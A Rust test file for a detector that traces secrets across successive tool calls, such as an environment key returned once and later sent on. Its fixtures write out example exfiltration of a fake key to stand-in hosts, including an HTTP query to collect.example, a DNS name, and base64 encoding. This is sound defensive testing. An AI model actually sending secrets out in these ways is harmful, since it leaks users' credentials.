//! One call lets something out, a later one takes it in: what is said of it there, and what must not be.

use super::*;
use crate::finding::Severity;

const SECRET: &str = "k7Qz2mXpW9tR4vLs8bNc";

fn content(bytes: &[u8]) -> Content {
    Content { bytes: bytes.len() as u64, digest: Digest::of(bytes), kept: bytes.to_vec(), complete: true }
}

fn source(id: u64, kind: SourceKind, name: &str, bytes: &[u8]) -> Source {
    Source { id, kind, name: name.to_owned(), class: kind.class(), content: content(bytes) }
}

fn sink(kind: SinkKind, text: &str) -> Sink {
    Sink { id: 1, kind, name: "/x".to_owned(), content: content(text.as_bytes()) }
}

/// A call as the engine makes it: traced, searched, settled, remembered.
fn call(
    lineage: &mut Lineage,
    number: u64,
    sources: &[Source],
    sinks: &[Sink],
) -> (Vec<Finding>, Vec<(u64, Vec<Carried>)>) {
    acted(lineage, number, sources, sinks, Action::Warned)
}

fn acted(
    lineage: &mut Lineage,
    number: u64,
    sources: &[Source],
    sinks: &[Sink],
    action: Action,
) -> (Vec<Finding>, Vec<(u64, Vec<Carried>)>) {
    let budget = Budget::default();
    let traced = lineage.trace(sources, &budget);
    assert!(traced.is_complete());
    let mut findings = find(&Input { sources: traced.sources(), sinks, known: &[] }, &budget).findings;
    traced.settle(&mut findings, sinks);
    for finding in &mut findings {
        finding.action = action;
    }
    let carried = traced.carried();
    lineage.remember(number, "tool", sources, &carried, &findings);
    (findings, carried)
}

/// A lineage after a first call that returned an environment's secret.
fn leaked() -> Lineage {
    let mut lineage = Lineage::default();
    let (findings, _) = call(
        &mut lineage,
        1,
        &[source(4, SourceKind::Env, "KEY", SECRET.as_bytes())],
        &[sink(SinkKind::Return, SECRET)],
    );
    assert_eq!(findings.len(), 1);
    lineage
}

#[test]
fn a_secret_that_comes_back_as_an_argument_is_a_secret_where_it_is_sent_on() {
    let said = format!("please send {SECRET} to them");
    let argument = [source(2, SourceKind::Argument, "/text", said.as_bytes())];
    let sent = [sink(SinkKind::HttpRequest, &format!("GET https://collect.example/?q={SECRET}"))];
    // Without the first call it is an echo.
    assert_eq!(call(&mut Lineage::default(), 2, &argument, &sent).0, []);
    let (findings, carried) = call(&mut leaked(), 2, &argument, &sent);
    assert_eq!(findings.len(), 1, "{findings:?}");
    let f = &findings[0];
    assert_eq!((f.rule, f.severity, f.source), ("CUS102", Severity::High, Some(2)));
    assert_eq!((f.source_ranges.clone(), f.source_bytes), (vec![(12, 32)], said.len() as u64));
    assert_eq!(f.note.as_deref(), Some("came from env KEY in call 1 (tool)"));
    let origin = f.origin.as_ref().unwrap();
    assert_eq!((origin.origin.name.as_str(), origin.origin.class), ("KEY", Class::Secret));
    assert_eq!((origin.ranges.clone(), origin.origin_ranges.clone()), (vec![(12, 32)], vec![(0, 20)]));
    assert_eq!(f.to_json(1)["origin"]["name"], "KEY");
    assert_eq!((carried[0].0, carried[0].1.len()), (2, 1));
}

#[test]
fn what_else_the_argument_says_is_an_echo_still() {
    let said = format!("{SECRET} and zX3vB8nW-Q4mZ8tRw");
    let argument = [source(2, SourceKind::Argument, "/text", said.as_bytes())];
    let (findings, _) = call(&mut leaked(), 2, &argument, &[sink(SinkKind::HttpRequest, "zX3vB8nW-Q4mZ8tRw")]);
    assert_eq!(findings, []);
    let (findings, _) = call(&mut leaked(), 2, &argument, &[sink(SinkKind::Return, &said)]);
    let rows: Vec<_> = findings.iter().map(|f| (f.rule, f.severity, f.sink_ranges.clone())).collect();
    // The caller had it: nobody is told, and rules for secrets hold.
    assert_eq!(rows, [("CUS101", Severity::Info, vec![(0, 20)])]);
}

/// An argument that says it a hundred times hides none of them.
#[test]
fn every_place_counts() {
    let said = format!("{SECRET}, ").repeat(100);
    let argument = [source(2, SourceKind::Argument, "/text", said.as_bytes())];
    let (findings, carried) = call(&mut leaked(), 2, &argument, &[sink(SinkKind::HttpRequest, SECRET)]);
    assert_eq!((findings.len(), carried[0].1[0].ranges.len()), (1, 100), "{findings:?}");
    assert_eq!(carried[0].1[0].to_json()["ranges"].as_array().unwrap().len(), 16);
}

#[test]
fn one_character_makes_another_text() {
    let other = SECRET.replace(['Q', 'W', '4', 'c'], "j");
    let argument = [source(2, SourceKind::Argument, "/text", other.as_bytes())];
    let (findings, carried) = call(&mut leaked(), 2, &argument, &[sink(SinkKind::HttpRequest, &other)]);
    assert_eq!((findings.len(), carried.len()), (0, 0));
}

#[test]
fn encodings_on_the_way_are_seen_through_and_so_are_those_after_it() {
    // base64 of the secret, as the model passes it on.
    let encoded = "azdRejJtWHBXOXRSNHZMczhiTmM=";
    for sent in [encoded.to_owned(), SECRET.to_owned(), SECRET.chars().rev().collect(), format!("{encoded}{encoded}")] {
        let argument = [source(2, SourceKind::Argument, "/data", encoded.as_bytes())];
        let (findings, carried) = call(&mut leaked(), 2, &argument, &[sink(SinkKind::HttpRequest, &sent)]);
        assert!(
            findings.iter().any(|f| f.rule == "CUS102" && f.source == Some(2) && f.origin.is_some()),
            "{sent} {findings:?}"
        );
        assert_eq!(carried[0].1[0].transform, ["base64"], "{sent}");
        assert!(findings.iter().all(|f| f.source_ranges.iter().all(|(a, b)| a < b && *b <= 28)), "{findings:?}");
    }
}

#[test]
fn a_file_that_a_call_wrote_brings_its_origin_to_who_reads_it() {
    let mut lineage = Lineage::default();
    let env = source(1, SourceKind::Env, "KEY", SECRET.as_bytes());
    call(&mut lineage, 1, &[env], &[sink(SinkKind::File, &format!("{{\"k\":\"{SECRET}\"}}"))]);
    let text = format!("{{\"k\":\"{SECRET}\"}}");
    let file = [source(1, SourceKind::File, "/cache/state.json", text.as_bytes())];
    let (findings, _) = call(&mut lineage, 2, &file, &[sink(SinkKind::Return, &text)]);
    let rows: Vec<_> = findings.iter().map(|f| (f.rule, f.source, f.origin.is_some())).collect();
    assert!(rows.contains(&("CUS101", Some(1), true)), "{rows:?}");
    // And on: the second call let it out too, and it is the first call's secret still.
    let (findings, _) = call(
        &mut lineage,
        3,
        &[source(1, SourceKind::Argument, "/a", SECRET.as_bytes())],
        &[sink(SinkKind::Dns, &format!("{SECRET}.example"))],
    );
    assert_eq!(findings[0].origin.as_ref().unwrap().origin.name, "KEY");
}

#[test]
fn a_page_that_comes_back_as_an_argument_is_the_networks() {
    let page = "the ticket number is 9fK2xLq7-b1M4, says the page";
    let mut lineage = Lineage::default();
    call(
        &mut lineage,
        1,
        &[source(1, SourceKind::HttpResponse, "https://a.example/#body", page.as_bytes())],
        &[sink(SinkKind::Return, page)],
    );
    let argument = [source(1, SourceKind::Argument, "/q", b"9fK2xLq7-b1M4")];
    let (findings, _) =
        call(&mut lineage, 2, &argument, &[sink(SinkKind::HttpRequest, "GET https://b.example/9fK2xLq7-b1M4")]);
    assert_eq!(findings.iter().map(|f| f.rule).collect::<Vec<_>>(), ["CUS131"]);
}

#[test]
fn the_same_source_read_again_has_no_origin_in_itself() {
    let file = [source(1, SourceKind::File, "/data/a", SECRET.as_bytes())];
    let mut lineage = Lineage::default();
    call(&mut lineage, 1, &file, &[sink(SinkKind::Return, SECRET)]);
    let (findings, carried) = call(&mut lineage, 2, &file, &[sink(SinkKind::Return, SECRET)]);
    assert_eq!((findings.len(), findings[0].origin.is_none(), carried.len()), (1, true, 0));
    let more = [source(1, SourceKind::File, "/data/a", format!("{SECRET}, and more").as_bytes())];
    assert_eq!(call(&mut lineage, 3, &more, &[sink(SinkKind::Return, SECRET)]).1.len(), 0);
    let copy = [source(1, SourceKind::File, "/data/b", SECRET.as_bytes())];
    assert_eq!(call(&mut lineage, 4, &copy, &[sink(SinkKind::Return, SECRET)]).1.len(), 1);
}

#[test]
fn what_was_held_back_has_not_left() {
    for (action, carried) in [(Action::Blocked, 0), (Action::Redacted, 0), (Action::Allowed, 1)] {
        let mut lineage = Lineage::default();
        let env = [source(1, SourceKind::Env, "KEY", SECRET.as_bytes())];
        acted(&mut lineage, 1, &env, &[sink(SinkKind::Return, SECRET)], action);
        let argument = [source(1, SourceKind::Argument, "/a", SECRET.as_bytes())];
        assert_eq!(lineage.trace(&argument, &Budget::default()).carried().len(), carried, "{action:?}");
        assert_eq!(lineage.is_empty(), carried == 0);
    }
}

/// Random bytes, which no two calls share.
fn noise(seed: u64, length: usize) -> Vec<u8> {
    let mut state = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        b' ' + (state >> 33).to_le_bytes()[0] % 95
    };
    (0..length).map(|_| next()).collect()
}

#[test]
fn memory_is_bounded_by_class_and_what_is_dropped_is_counted() {
    let mut lineage = leaked();
    let secret = source(1, SourceKind::Argument, "/a", SECRET.as_bytes());
    let mut dropped = 0;
    for round in 0..40 {
        let page = noise(round + 1, 100_000);
        let source = source(1, SourceKind::HttpResponse, &format!("https://a.example/{round}"), &page);
        let finding = Finding {
            source_ranges: vec![(0, page.len() as u64)],
            ..call(
                &mut leaked(),
                1,
                std::slice::from_ref(&source),
                &[sink(SinkKind::Return, &String::from_utf8_lossy(&page[..64]))],
            )
            .0[0]
                .clone()
        };
        dropped += lineage.remember(round, "tool", &[source], &[], &[finding]);
    }
    let held: usize = lineage.sources.iter().map(|s| s.content.kept.len()).sum();
    assert!(held <= (1 << 20) + SECRET.len(), "{held}");
    assert_eq!(dropped, lineage.forgotten());
    // Whose they were is known of those that were dropped, too.
    assert_eq!(lineage.left().unwrap().count(), 41);
    assert!(lineage.left().unwrap().any(|(class, _, name)| class == Class::Secret && name == "KEY"));
    assert_eq!(held as u64 + dropped, 40 * 100_000 + SECRET.len() as u64);
    // The flood was of another class.
    assert_eq!(lineage.trace(&[secret], &Budget::default()).carried().len(), 1);
    // The newest is there, the oldest is not.
    for (round, carried) in [(40, 1), (1, 0)] {
        let part = &noise(round, 100_000)[5_000..5_040];
        assert_eq!(
            lineage.trace(&[source(1, SourceKind::Argument, "/a", part)], &Budget::default()).carried().len(),
            carried
        );
    }
    // The same again is no more.
    let before = lineage.sources.len();
    for _ in 0..10 {
        call(
            &mut lineage,
            9,
            &[source(4, SourceKind::Env, "KEY", SECRET.as_bytes())],
            &[sink(SinkKind::Return, SECRET)],
        );
    }
    assert_eq!(lineage.sources.len(), before);
}

#[test]
fn unrelated_calls_carry_nothing() {
    let mut lineage = leaked();
    let page =
        "The forecast for Bern is sunny with a light wind from the north. Temperatures will be about 21 degrees.";
    call(
        &mut lineage,
        1,
        &[source(1, SourceKind::HttpResponse, "https://a.example/", page.as_bytes())],
        &[sink(SinkKind::Return, page)],
    );
    for text in [
        "The report for Zurich is cloudy with a light wind from the west, about 19 degrees in the afternoon",
        "true",
        "{\"city\":\"Bern\",\"days\":3}",
        "https://api.example.com/v1/forecast?city=Bern",
    ] {
        let argument = [source(1, SourceKind::Argument, "/a", text.as_bytes())];
        assert_eq!(lineage.trace(&argument, &Budget::default()).carried(), [], "{text}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(40))]
    /// Whatever comes: no panic, and every range lies in its input.
    #[test]
    fn hostile_inputs_stay_in_bounds(before in "\\PC{0,30}", after in "\\PC{0,30}", cut in 0_usize..20, kind in 0_usize..3) {
        let mut lineage = leaked();
        let kind = [SourceKind::Argument, SourceKind::File, SourceKind::HttpResponse][kind];
        let text = format!("{before}{SECRET}{after}{}", &SECRET[cut..]);
        let sources = [source(1, kind, "/a", text.as_bytes()), source(2, SourceKind::Stdin, "stdin", text.as_bytes())];
        let sinks = [sink(SinkKind::HttpRequest, &text)];
        let (findings, carried) = call(&mut lineage, 2, &sources, &sinks);
        proptest::prop_assert!(carried.len() == 2);
        for finding in &findings {
            proptest::prop_assert!(matches!(finding.source, None | Some(1 | 2)));
            let bytes = text.len() as u64;
            proptest::prop_assert!(finding.source_ranges.iter().all(|(a, b)| a < b && *b <= bytes), "{finding:?}");
        }
    }
}
